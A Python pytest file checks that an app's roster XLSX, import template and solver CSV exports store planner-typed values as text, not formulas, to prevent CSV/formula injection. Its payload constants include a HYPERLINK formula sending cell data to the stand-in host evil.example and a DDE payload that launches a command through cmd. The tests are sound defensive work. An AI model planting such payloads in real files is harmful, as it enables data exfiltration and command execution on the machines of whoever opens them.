"""Every spreadsheet and CSV file the app writes keeps text as text (OWASP: CSV/formula injection).

The exports: the roster XLSX (page and API), the forces import template XLSX, and the solver's roster
CSV (``antt solve-benchmark --roster-out``). A value typed by a planner that starts with ``=`` must come
back from the file as the same string in a string cell, never as a formula.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from antt.core.spreadsheet import FORMULA_TRIGGERS, append_row, csv_cell
from antt.forces.tests.factories import OfficerFactory, UnitFactory
from antt.interop import forces_sheet
from antt.planning.tests.factories import AssignmentFactory, PostFactory, SiteFactory
from antt.solver.benchmark import roster_csv
from antt.solver.shifts import Employee, ShiftProblem, ShiftType

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (LINK, DDE, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "#N/A")


def _cells_with(book: Workbook, values: set[str]) -> list[Any]:
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value in values
    ]


def test_append_row_writes_every_dangerous_string_as_a_string_cell() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, [*PAYLOADS, 7, None])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in row[: len(PAYLOADS)]] == [(p, "s") for p in PAYLOADS]
    assert (row[len(PAYLOADS)].value, row[len(PAYLOADS)].data_type) == (7, "n")


@pytest.mark.parametrize("payload", PAYLOADS[:-1])
def test_csv_cell_quotes_a_leading_formula_character(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload
    assert csv_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert csv_cell(None) == ""
    assert payload.startswith(FORMULA_TRIGGERS)


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", ["/api/v1/events", "/events"])
def test_the_roster_xlsx_writes_names_as_text_not_formulas(
    as_user: Any, planner: Any, event: Any, prefix: str
) -> None:
    site = SiteFactory(event=event, name_vi="@SUM(1,1)", name_en="@SUM(1,1)")
    post = PostFactory(event=event, site=site, name_vi="-2+3", name_en="-2+3")
    unit = UnitFactory(event=event, name_vi="+1+1", name_en="+1+1")
    officer = OfficerFactory(event=event, unit=unit, full_name=LINK, call_sign=DDE, rank="\t=1+1")
    AssignmentFactory(event=event, post=post, officer=officer)
    response = as_user(planner).get(f"{prefix}/{event.code}/export/roster.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = _cells_with(book, {LINK, DDE, "@SUM(1,1)", "-2+3", "+1+1", "\t=1+1"})
    found = {(cell.parent.title, cell.value) for cell in cells}
    assert {value for _sheet, value in found} == {LINK, DDE, "@SUM(1,1)", "-2+3", "+1+1", "\t=1+1"}
    assert {sheet for sheet, _value in found} == {"Roster", "Per officer"}  # the totals sheet too
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)


def test_the_forces_template_holds_no_formula() -> None:
    book = load_workbook(io.BytesIO(forces_sheet.template_xlsx()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}


def test_the_solver_roster_csv_quotes_ids_that_start_a_formula() -> None:
    problem = ShiftProblem(
        horizon=2,
        shifts=(ShiftType("=1+1", 480),),
        employees=(Employee(DDE), Employee("B")),
    )
    text = roster_csv(problem, {DDE: ("=1+1", None), "B": (None, "=1+1")})
    assert text == f"'{DDE},'=1+1,\nB,,'=1+1\n"
